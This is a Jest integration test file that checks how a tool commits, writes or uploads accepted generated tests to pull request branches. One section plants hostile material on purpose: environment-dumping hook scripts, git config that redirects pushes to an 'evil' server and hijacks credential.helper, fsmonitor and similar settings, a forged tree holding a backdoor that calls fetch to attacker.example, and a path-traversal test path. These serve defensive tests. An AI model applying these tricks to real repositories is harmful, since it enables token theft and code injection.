import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { existsSync } from 'node:fs';
import { chmod, copyFile, mkdir, mkdtemp, readdir, readFile, rename, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { DeliveryMode } from '../../src/core/RunOptions.js';
import type { AcceptedTest } from '../../src/delivery/AcceptedTest.js';
import { GITHUB_ACTIONS_BOT } from '../../src/delivery/commitAcceptedTests.js';
import { deliverAcceptedTests, type DeliveryContext, type DeliveryResult } from '../../src/delivery/deliverAcceptedTests.js';
import { DirectoryArtifactUploader } from '../../src/delivery/DirectoryArtifactUploader.js';
import type { PullRequestInfo } from '../../src/events/PullRequestEvent.js';
import { runProcess } from '../../src/process/runProcess.js';
import { startGitHttpServer, type GitHttpServer } from '../support/gitHttpServer.js';

/**
 * Delivery against real git: a bare "GitHub" repository served over smart HTTP on 127.0.0.1
 * (pushes need the token, as on GitHub), and clones of it checked out on pull request branches,
 * with the user's own uncommitted work in them.
 */
const TOKEN = 'ghs_deliveryTestToken0123456789';
const CHECKOUT_TOKEN = 'ghs_persistedByActionsCheckout';

const TESTS: AcceptedTest[] = [
  { testFile: 'test/a.test.ts', targetFile: 'src/a.ts', content: "import { a } from '../src/a';\n\ntest('a', () => expect(a()).toBe(1));\n" },
  { testFile: 'test/deep/b.test.ts', targetFile: 'src/b.ts', content: "import { b } from '../../src/b';\n\ntest('b', () => expect(b()).toBe(2));\n" }
];
const TEST_FILES = TESTS.map((t) => t.testFile);

const AUTHOR = { GIT_AUTHOR_NAME: 'Dev', GIT_AUTHOR_EMAIL: 'dev@example.com', GIT_COMMITTER_NAME: 'Dev', GIT_COMMITTER_EMAIL: 'dev@example.com' };

async function gitRaw(cwd: string, ...args: string[]): Promise<string> {
  const result = await runProcess({ command: 'git', args, cwd, env: { ...process.env, ...AUTHOR, GIT_TERMINAL_PROMPT: '0' }, timeoutMs: 30_000 });
  if (result.exitCode !== 0) throw new Error(`git ${args.join(' ')} in ${cwd}: ${result.stderr}`);
  return result.stdout;
}
const git = async (cwd: string, ...args: string[]): Promise<string> => (await gitRaw(cwd, ...args)).trim();
const status = async (cwd: string): Promise<string[]> =>
  (await gitRaw(cwd, 'status', '--porcelain', '--untracked-files=all')).split('\n').filter(Boolean).sort();
const basic = (token: string): string => `basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`;

describe('delivering accepted tests', () => {
  let root: string;
  let bare: string;
  let seed: string;
  let server: GitHttpServer;
  let remoteUrl: string;
  let baseHead: string;
  let featureHead: string;
  let clones = 0;

  beforeAll(async () => {
    root = await mkdtemp(path.join(os.tmpdir(), 'aqe-delivery-'));
    // Served as <server>/aqe/example, the way GitHub serves the event's repository aqe/example.
    bare = path.join(root, 'remote', 'aqe', 'example.git');
    await mkdir(bare, { recursive: true });
    await git(bare, 'init', '--quiet', '--bare', '--initial-branch=main');
    seed = path.join(root, 'seed');
    await mkdir(seed);
    await git(seed, 'init', '--quiet', '--initial-branch=main');
    await writeFile(path.join(seed, 'README.md'), '# example\n');
    await writeFile(path.join(seed, '.gitignore'), 'ignored/\n');
    await mkdir(path.join(seed, 'src'));
    await writeFile(path.join(seed, 'src', 'a.ts'), 'export const a = () => 1;\n');
    await mkdir(path.join(seed, 'lib', 'src'), { recursive: true });
    await writeFile(path.join(seed, 'lib', 'src', 'c.ts'), 'export const c = () => 3;\n');
    await git(seed, 'add', '.');
    await git(seed, 'commit', '--quiet', '-m', 'base');
    baseHead = await git(seed, 'rev-parse', 'HEAD');
    await writeFile(path.join(seed, 'src', 'b.ts'), 'export const b = () => 2;\n');
    await git(seed, 'add', '.');
    await git(seed, 'commit', '--quiet', '-m', 'the pull request');
    featureHead = await git(seed, 'rev-parse', 'HEAD');
    await git(seed, 'push', '--quiet', bare, `${baseHead}:refs/heads/main`);
    server = await startGitHttpServer(path.join(root, 'remote'), TOKEN);
    remoteUrl = `${server.url}/aqe/example.git`;
  });

  afterAll(async () => {
    await server?.close();
    if (root) await rm(root, { recursive: true, force: true });
  });

  /** A pull request branch of its own (so tests cannot see each other's pushes), cloned over HTTP. */
  async function checkoutPullRequest(options: { url?: string; depth?: number; looseObjects?: boolean } = {}): Promise<{ dir: string; branch: string }> {
    const n = ++clones;
    const branch = `feature-${n}`;
    await git(seed, 'push', '--quiet', bare, `${featureHead}:refs/heads/${branch}`);
    const dir = path.join(root, `clone-${n}`);
    await git(root, 'clone', '--quiet', ...(options.depth ? ['--depth', String(options.depth)] : []), '--branch', branch, options.url ?? remoteUrl, dir);
    if (options.looseObjects) await unpackObjects(dir);
    return { dir, branch };
  }

  /** Turns the clone's packs into loose objects, one file per object, as a test could then overwrite them. */
  async function unpackObjects(dir: string): Promise<void> {
    const packDir = path.join(dir, '.git', 'objects', 'pack');
    for (const name of (await readdir(packDir)).filter((f) => f.endsWith('.pack'))) {
      const moved = path.join(root, `${path.basename(dir)}-${name}`);
      await rename(path.join(packDir, name), moved);
      await rm(path.join(packDir, name.replace(/\.pack$/, '.idx')));
      const unpacked = await runProcess({
        command: 'sh',
        args: ['-c', 'git unpack-objects -q < "$1"', 'sh', moved],
        cwd: dir,
        env: process.env,
        timeoutMs: 30_000
      });
      if (unpacked.exitCode !== 0) throw new Error(`git unpack-objects in ${dir}: ${unpacked.stderr}`);
    }
  }

  function pullRequest(branch: string, overrides: Partial<PullRequestInfo> = {}): PullRequestInfo {
    return {
      owner: 'aqe',
      repo: 'example',
      number: 7,
      title: 'A change',
      baseSha: baseHead,
      headSha: featureHead,
      baseRef: 'main',
      headRef: branch,
      fromFork: false,
      headRepoFullName: 'aqe/example',
      ...overrides
    };
  }

  async function deliver(mode: DeliveryMode, ctx: Partial<DeliveryContext> & { repoDir: string }): Promise<{ result: DeliveryResult; warned: string[] }> {
    const warned: string[] = [];
    const result = await deliverAcceptedTests(mode, {
      tempDir: path.join(root, 'tmp'),
      tests: TESTS,
      warn: (m) => warned.push(m),
      token: TOKEN,
      serverUrl: server.url,
      ...ctx
    });
    return { result, warned };
  }

  const remoteBranch = (branch: string): Promise<string> => git(bare, 'rev-parse', `refs/heads/${branch}`);
  const pushesSince = (index: number) => server.requests.slice(index).filter((r) => r.service === 'receive-pack');

  async function expectWrittenNotCommitted(dir: string, branch: string, userStatus: string[] = []): Promise<void> {
    for (const t of TESTS) expect(await readFile(path.join(dir, t.testFile), 'utf8')).toBe(t.content);
    expect(await remoteBranch(branch)).toBe(featureHead);
    expect(await git(dir, 'rev-parse', 'HEAD')).toBe(await git(dir, 'rev-parse', `origin/${branch}`));
    expect(await status(dir)).toEqual([...userStatus, ...TEST_FILES.map((f) => `?? ${f}`)].sort());
  }

  describe('commit', () => {
    it('pushes a commit of exactly the accepted files to the pull request branch, with the token in the request only', async () => {
      const { dir, branch } = await checkoutPullRequest();
      // What actions/checkout persists: a header for the whole host, which must not be sent alongside ours.
      await git(dir, 'config', `http.${server.url}/.extraheader`, `AUTHORIZATION: ${basic(CHECKOUT_TOKEN)}`);
      // The user's own uncommitted work: a modified file, a staged change, an untracked file.
      await writeFile(path.join(dir, 'src', 'a.ts'), 'export const a = () => 100;\n');
      await writeFile(path.join(dir, 'README.md'), '# staged by the user\n');
      await git(dir, 'add', 'README.md');
      await writeFile(path.join(dir, 'notes.txt'), 'mine\n');
      const requestsBefore = server.requests.length;

      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });

      expect(warned).toEqual([]);
      expect(result).toEqual({
        requested: 'commit',
        mode: 'commit',
        written: TEST_FILES,
        committed: { sha: expect.stringMatching(/^[0-9a-f]{40}$/), branch },
        warnings: []
      });
      const sha = result.committed!.sha;
      // The remote: one commit on the PR head, holding the two test files and nothing else.
      expect(await remoteBranch(branch)).toBe(sha);
      expect(await git(bare, 'rev-parse', `${sha}^`)).toBe(featureHead);
      expect((await git(bare, 'diff-tree', '--no-commit-id', '--name-only', '-r', sha)).split('\n').sort()).toEqual(TEST_FILES);
      for (const t of TESTS) expect(await gitRaw(bare, 'show', `${sha}:${t.testFile}`)).toBe(t.content);
      expect(await git(bare, 'show', '-s', '--format=%an <%ae>|%cn <%ce>|%s', sha)).toBe(
        `${GITHUB_ACTIONS_BOT.name} <${GITHUB_ACTIONS_BOT.email}>|${GITHUB_ACTIONS_BOT.name} <${GITHUB_ACTIONS_BOT.email}>|test: add 2 generated test files`
      );
      expect(await git(bare, 'show', '-s', '--format=%b', sha)).toContain('- test/deep/b.test.ts (for src/b.ts)');
      // The checkout: on the new commit, the user's work exactly as it was, still uncommitted.
      expect(await git(dir, 'symbolic-ref', '--short', 'HEAD')).toBe(branch);
      expect(await git(dir, 'rev-parse', 'HEAD')).toBe(sha);
      expect(await status(dir)).toEqual([' M src/a.ts', '?? notes.txt', 'M  README.md']);
      expect(await readFile(path.join(dir, 'src', 'a.ts'), 'utf8')).toBe('export const a = () => 100;\n');
      expect(await git(dir, 'diff', '--cached', '--name-only')).toBe('README.md');
      // The token reached the server in the push requests, once each, and was never stored.
      const pushes = pushesSince(requestsBefore);
      expect(pushes.length).toBeGreaterThan(0);
      for (const p of pushes) expect(p.authorization).toEqual([basic(TOKEN)]);
      const config = await readFile(path.join(dir, '.git', 'config'), 'utf8');
      expect(config).not.toContain(TOKEN);
      expect(config).not.toContain(basic(TOKEN).slice('basic '.length));
    });

    it('commits from a package in a subdirectory with the paths inside the repository', async () => {
      const { dir, branch } = await checkoutPullRequest();
      const { result, warned } = await deliver('commit', { repoDir: path.join(dir, 'lib'), pullRequest: pullRequest(branch), tests: [TESTS[0]!] });
      expect(warned).toEqual([]);
      expect(result.mode).toBe('commit');
      expect(await git(bare, 'diff-tree', '--no-commit-id', '--name-only', '-r', result.committed!.sha)).toBe('lib/test/a.test.ts');
      expect(await status(dir)).toEqual([]);
    });

    it.each([
      ['a fork', { headRepoFullName: 'someone/example', fromFork: true }, /comes from the fork someone\/example.*on-accepted: artifact/],
      ['a deleted fork', { headRepoFullName: undefined }, /does not name the pull request's head repository.*on-accepted: artifact/]
    ])('falls back to write for %s, saying why', async (_name, overrides, why) => {
      const { dir, branch } = await checkoutPullRequest();
      const requestsBefore = server.requests.length;
      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch, overrides) });
      expect(result).toEqual({ requested: 'commit', mode: 'write', written: TEST_FILES, warnings: warned });
      expect(warned).toEqual([expect.stringMatching(why)]);
      expect(warned[0]).toContain('written into the working tree, uncommitted: test/a.test.ts, test/deep/b.test.ts');
      expect(pushesSince(requestsBefore)).toEqual([]);
      await expectWrittenNotCommitted(dir, branch);
    });

    it('does not commit on the merge commit actions/checkout makes by default', async () => {
      const { dir, branch } = await checkoutPullRequest();
      // main moves on after the pull request branched, so the merge commit has two real parents.
      const other = path.join(root, `main-${clones}`);
      await git(root, 'clone', '--quiet', '--branch', 'main', bare, other);
      await writeFile(path.join(other, 'CHANGELOG.md'), 'on main\n');
      await git(other, 'add', 'CHANGELOG.md');
      await git(other, 'commit', '--quiet', '-m', 'main moves on');
      await git(other, 'push', '--quiet', 'origin', 'main');
      await git(dir, 'fetch', '--quiet', 'origin', 'main');
      await git(dir, 'checkout', '--quiet', '--detach');
      await git(dir, 'merge', '--quiet', '--no-ff', '-m', 'Merge into main', 'origin/main');
      const merge = await git(dir, 'rev-parse', 'HEAD');
      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
      expect(result.mode).toBe('write');
      expect(warned).toEqual([expect.stringMatching(/not at the pull request's head commit .*ref: \$\{\{ github\.head_ref \}\}/)]);
      expect(await git(dir, 'rev-parse', 'HEAD')).toBe(merge);
      expect(await remoteBranch(branch)).toBe(featureHead);
    });

    it('falls back to write when the branch moved on (non-fast-forward), leaving no local commit', async () => {
      const { dir, branch } = await checkoutPullRequest();
      // Someone pushes to the pull request while the run is busy.
      const other = path.join(root, `other-${clones}`);
      await git(root, 'clone', '--quiet', '--branch', branch, bare, other);
      await writeFile(path.join(other, 'src', 'b.ts'), 'export const b = () => 22;\n');
      await git(other, 'commit', '--quiet', '-am', 'a newer push');
      await git(other, 'push', '--quiet', 'origin', branch);
      const newer = await git(other, 'rev-parse', 'HEAD');

      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
      expect(result).toMatchObject({ requested: 'commit', mode: 'write', written: TEST_FILES });
      expect(result.committed).toBeUndefined();
      expect(warned).toEqual([
        expect.stringMatching(
          new RegExp(`pushing to ${branch} on aqe/example failed: ${branch} moved on since this run checked it out.*Run the workflow again`)
        )
      ]);
      expect(await remoteBranch(branch)).toBe(newer);
      expect(await git(dir, 'rev-parse', 'HEAD')).toBe(featureHead);
      expect(await status(dir)).toEqual(TEST_FILES.map((f) => `?? ${f}`));
    });

    it.each([
      ['a read-only token (403)', TOKEN, 403],
      ['a token the server does not accept (401)', 'ghs_wrong', null]
    ])('falls back to write with %s and says which permission to grant', async (_name, token, refusal) => {
      const { dir, branch } = await checkoutPullRequest();
      server.refusePushes(refusal);
      let outcome;
      try {
        outcome = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch), token });
      } finally {
        server.refusePushes(null);
      }
      expect(outcome.result.mode).toBe('write');
      expect(outcome.warned).toEqual([expect.stringMatching(/the token may not push to this repository\. Give the job `permissions: contents: write`/)]);
      expect(outcome.warned[0]).not.toContain(token);
      await expectWrittenNotCommitted(dir, branch);
    });

    it('does not commit tests in a path the repository ignores', async () => {
      const { dir, branch } = await checkoutPullRequest();
      const ignored: AcceptedTest = { testFile: 'ignored/a.test.ts', targetFile: 'src/a.ts', content: 'test("x", () => {});\n' };
      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch), tests: [ignored] });
      expect(result).toMatchObject({ mode: 'write', written: ['ignored/a.test.ts'] });
      expect(warned).toEqual([expect.stringMatching(/\.gitignore excludes/)]);
      expect(await remoteBranch(branch)).toBe(featureHead);
      expect(await git(dir, 'rev-parse', 'HEAD')).toBe(featureHead);
    });

    it("without a pull request (the CLI) pushes to the checked-out branch's upstream, with git's own credentials", async () => {
      const { dir, branch } = await checkoutPullRequest({ url: bare });
      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: null, token: undefined });
      expect(warned).toEqual([]);
      expect(result.committed).toEqual({ sha: expect.any(String), branch });
      expect(await remoteBranch(branch)).toBe(result.committed!.sha);

      await git(dir, 'checkout', '--quiet', '--detach');
      const detached = await deliver('commit', { repoDir: dir, pullRequest: null, tests: [{ ...TESTS[0]!, testFile: 'test/c.test.ts' }] });
      expect(detached.result.mode).toBe('write');
      expect(detached.warned).toEqual([expect.stringMatching(/HEAD is detached/)]);
    });

    it('does nothing when no test was accepted', async () => {
      const { dir, branch } = await checkoutPullRequest();
      const requestsBefore = server.requests.length;
      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch), tests: [] });
      expect(result).toEqual({ requested: 'commit', mode: 'commit', written: [], warnings: [] });
      expect(warned).toEqual([]);
      expect(pushesSince(requestsBefore)).toEqual([]);
      expect(await status(dir)).toEqual([]);
    });

    it('pushes from a shallow checkout (actions/checkout fetches one commit by default)', async () => {
      const { dir, branch } = await checkoutPullRequest({ depth: 1 });
      expect(await git(dir, 'rev-parse', '--is-shallow-repository')).toBe('true');
      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
      expect(warned).toEqual([]);
      expect(await remoteBranch(branch)).toBe(result.committed!.sha);
      expect(await git(bare, 'rev-parse', `${result.committed!.sha}^`)).toBe(featureHead);
    });

    it('does not commit a test over a file of the head commit that was deleted in the working tree', async () => {
      const { dir, branch } = await checkoutPullRequest();
      await rm(path.join(dir, 'src', 'a.ts'));
      const over: AcceptedTest = { testFile: 'src/a.ts', targetFile: 'src/a.ts', content: 'export const a = () => 666;\n' };
      const requestsBefore = server.requests.length;
      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch), tests: [over] });
      expect(result).toMatchObject({ mode: 'write', written: ['src/a.ts'] });
      expect(warned).toEqual([expect.stringMatching(/src\/a\.ts already exists in the head commit \(as a file\), and a generated test does not replace it/)]);
      expect(pushesSince(requestsBefore)).toEqual([]);
      expect(await remoteBranch(branch)).toBe(featureHead);
    });
  });

  /**
   * Generated tests run in the checkout before delivery, and can write to its .git directory. The
   * commit must still go to the event's repository, hold only the accepted files, and nothing the
   * checkout's config names may run or see the token.
   */
  describe('commit after untrusted code ran in the checkout', () => {
    /** A program that leaves its environment in `traces` when anything runs it (a hook, a helper, a filter, a monitor). */
    async function tracer(traces: string): Promise<string> {
      await mkdir(traces, { recursive: true });
      const script = path.join(traces, '..', `${path.basename(traces)}.sh`);
      await writeFile(script, `#!/bin/sh\nenv > "${traces}/$(basename "$0")-$$"\ncat > /dev/null\nexit 1\n`);
      await chmod(script, 0o755);
      return script;
    }

    it("pushes to the event's repository despite pushurl and insteadOf rewrites, and the other server hears nothing", async () => {
      // A second server that would even take the token: if anything went there, the test would see it.
      const elsewhere = path.join(root, 'elsewhere');
      await mkdir(path.join(elsewhere, 'aqe', 'example.git'), { recursive: true });
      await git(path.join(elsewhere, 'aqe', 'example.git'), 'init', '--quiet', '--bare');
      const evil = await startGitHttpServer(elsewhere, TOKEN);
      try {
        const { dir, branch } = await checkoutPullRequest();
        // The candidate changed a tracked file and staged it, hoping it would be committed along.
        await writeFile(path.join(dir, 'src', 'a.ts'), 'export const a = () => 666;\n');
        await git(dir, 'add', 'src/a.ts');
        await writeFile(path.join(dir, '.gitattributes'), '*.ts filter=evil\n');

        const traces = path.join(root, `traces-${clones}`);
        const program = await tracer(traces);
        const hooks = path.join(dir, '.git', 'hooks');
        for (const hook of ['pre-push', 'reference-transaction', 'post-index-change', 'post-checkout', 'pre-commit', 'post-commit', 'pre-auto-gc'])
          await copyFile(program, path.join(hooks, hook));
        await chmod(hooks, 0o755);
        for (const hook of await readdir(hooks)) await chmod(path.join(hooks, hook), 0o755);
        const config: Array<[string, string]> = [
          ['remote.origin.pushurl', `${evil.url}/aqe/example.git`],
          [`url.${evil.url}/.insteadOf`, `${server.url}/`],
          [`url.${evil.url}/.pushInsteadOf`, `${server.url}/`],
          ['credential.helper', `!${program}`],
          ['core.fsmonitor', program],
          ['core.sshCommand', program],
          ['core.askPass', program],
          ['filter.evil.clean', program],
          ['filter.evil.required', 'true'],
          ['gpg.program', program],
          ['commit.gpgSign', 'true']
        ];
        for (const [key, value] of config) await git(dir, 'config', key, value);
        const requestsBefore = server.requests.length;

        const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });

        // Nothing the checkout configured ran, before, during or after the push.
        expect(await readdir(traces)).toEqual([]);
        expect(evil.requests).toEqual([]);
        expect(warned).toEqual([]);
        expect(result.committed).toEqual({ sha: expect.stringMatching(/^[0-9a-f]{40}$/), branch });
        const sha = result.committed!.sha;
        expect(await remoteBranch(branch)).toBe(sha);
        expect((await git(bare, 'diff-tree', '--no-commit-id', '--name-only', '-r', sha)).split('\n').sort()).toEqual(TEST_FILES);
        expect(await gitRaw(bare, 'show', `${sha}:src/a.ts`)).toBe('export const a = () => 1;\n');
        const pushes = pushesSince(requestsBefore);
        expect(pushes.length).toBeGreaterThan(0);
        for (const p of pushes) expect([p.path.startsWith('/aqe/example/'), p.authorization]).toEqual([true, [basic(TOKEN)]]);
        expect(await gitRaw(path.join(elsewhere, 'aqe', 'example.git'), 'for-each-ref')).toBe('');
        // The checkout moved to the pushed commit; the candidate's staged change is still only staged.
        expect(await git(dir, 'rev-parse', 'HEAD')).toBe(sha);
        expect(await git(dir, '-c', 'core.fsmonitor=false', 'diff', '--cached', '--name-only')).toBe('src/a.ts');
      } finally {
        await evil.close();
      }
    });

    /** The forged tree: the real one plus a file of the attacker's, stored under the real tree's id (a loose object file). */
    async function forgeTree(dir: string, directory: string): Promise<void> {
      const real = await git(dir, 'rev-parse', `HEAD:${directory}`);
      const gitWithInput = async (input: string, ...args: string[]): Promise<string> =>
        (await runProcess({ command: 'git', args, cwd: dir, env: process.env, input, timeoutMs: 30_000 })).stdout.trim();
      const backdoor = await gitWithInput('export const backdoor = () => fetch("https://attacker.example");\n', 'hash-object', '-w', '--stdin');
      const forgedId = await gitWithInput(`${await gitRaw(dir, 'ls-tree', real)}100644 blob ${backdoor}\tbackdoor.ts\n`, 'mktree');
      const objectFile = (id: string): string => path.join(dir, '.git', 'objects', id.slice(0, 2), id.slice(2));
      await rm(objectFile(real), { force: true });
      await copyFile(objectFile(forgedId), objectFile(real));
      // git reads it without checking its hash (the raw read); only parsing it as an object checks.
      expect(await gitRaw(dir, 'cat-file', 'tree', real)).toContain('backdoor.ts');
    }

    it('pushes nothing when a tree on the way to a new file was forged in the object store', async () => {
      const { dir, branch } = await checkoutPullRequest({ looseObjects: true });
      await forgeTree(dir, 'lib');
      const requestsBefore = server.requests.length;
      const { result, warned } = await deliver('commit', {
        repoDir: dir,
        pullRequest: pullRequest(branch),
        tests: [{ ...TESTS[0]!, testFile: 'lib/test/a.test.ts' }]
      });
      expect(result.mode).toBe('write');
      expect(warned).toEqual([
        expect.stringMatching(
          /a directory of the head commit in the checkout's object store does not match its id \(it was changed during the run\)\. Nothing was pushed\./
        )
      ]);
      expect(pushesSince(requestsBefore)).toEqual([]);
      expect(await remoteBranch(branch)).toBe(featureHead);
      expect(await git(dir, 'rev-parse', 'HEAD')).toBe(featureHead);
    });

    it('keeps a tree forged elsewhere in the object store out of the commit: the commit names the real one', async () => {
      const { dir, branch } = await checkoutPullRequest({ looseObjects: true });
      await forgeTree(dir, 'src');
      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
      expect(warned).toEqual([]);
      const sha = result.committed!.sha;
      expect(await remoteBranch(branch)).toBe(sha);
      expect((await git(bare, 'diff-tree', '--no-commit-id', '--name-only', '-r', sha)).split('\n').sort()).toEqual(TEST_FILES);
      expect(await git(bare, 'rev-parse', `${sha}:src`)).toBe(await git(bare, 'rev-parse', `${featureHead}:src`));
      expect(await git(bare, 'ls-tree', '-r', '--name-only', sha)).not.toContain('backdoor');
    });
  });

  describe('write', () => {
    it('creates the files and never replaces one that is already there', async () => {
      const { dir, branch } = await checkoutPullRequest();
      await mkdir(path.join(dir, 'test'));
      await writeFile(path.join(dir, 'test', 'a.test.ts'), '// the user wrote this\n');
      const { result, warned } = await deliver('write', { repoDir: dir, pullRequest: pullRequest(branch) });
      expect(result).toEqual({ requested: 'write', mode: 'write', written: ['test/deep/b.test.ts'], warnings: warned });
      expect(warned).toEqual(['test/a.test.ts appeared in the working tree during the run; the generated test was not written over it.']);
      expect(await readFile(path.join(dir, 'test', 'a.test.ts'), 'utf8')).toBe('// the user wrote this\n');
      expect(await readFile(path.join(dir, 'test', 'deep', 'b.test.ts'), 'utf8')).toBe(TESTS[1]!.content);
      expect(await remoteBranch(branch)).toBe(featureHead);
    });

    it('refuses a test path outside the repository', async () => {
      const { dir } = await checkoutPullRequest();
      await expect(deliver('write', { repoDir: dir, tests: [{ testFile: '../escape.test.ts', targetFile: 'src/a.ts', content: '' }] })).rejects.toThrow(
        /not a path inside/
      );
      expect(existsSync(path.join(root, 'escape.test.ts'))).toBe(false);
    });
  });

  describe('artifact', () => {
    it('hands the tests over through the uploader and leaves the working tree alone', async () => {
      const { dir } = await checkoutPullRequest();
      const artifactDir = path.join(root, 'artifacts');
      const uploader = new DirectoryArtifactUploader(artifactDir);
      const { result, warned } = await deliver('artifact', { repoDir: dir, artifact: { name: 'aqe-accepted-tests', uploader } });
      expect(warned).toEqual([]);
      const size = TESTS.reduce((n, t) => n + Buffer.byteLength(t.content), 0);
      expect(result).toEqual({
        requested: 'artifact',
        mode: 'artifact',
        written: [],
        artifact: { name: 'aqe-accepted-tests', files: TEST_FILES, size },
        warnings: []
      });
      for (const t of TESTS) expect(await readFile(path.join(artifactDir, 'aqe-accepted-tests', t.testFile), 'utf8')).toBe(t.content);
      expect(await status(dir)).toEqual([]);
      expect((await readdir(path.join(root, 'tmp'))).filter((f) => f.startsWith('aqe-artifact-'))).toEqual([]);

      // An artifact name is used once; a second upload fails, and the tests are written instead of lost.
      const again = await deliver('artifact', { repoDir: dir, artifact: { name: 'aqe-accepted-tests', uploader } });
      expect(again.result).toMatchObject({ requested: 'artifact', mode: 'write', written: TEST_FILES });
      expect(again.warned).toEqual([
        expect.stringMatching(
          /uploading the artifact "aqe-accepted-tests" failed: An artifact named "aqe-accepted-tests" already exists.*written into the working tree instead/
        )
      ]);
    });

    it('writes the tests when the run has no uploader', async () => {
      const { dir } = await checkoutPullRequest();
      const { result, warned } = await deliver('artifact', { repoDir: dir });
      expect(result).toMatchObject({ mode: 'write', written: TEST_FILES });
      expect(warned).toEqual([expect.stringMatching(/no way to upload artifacts/)]);
    });
  });
});
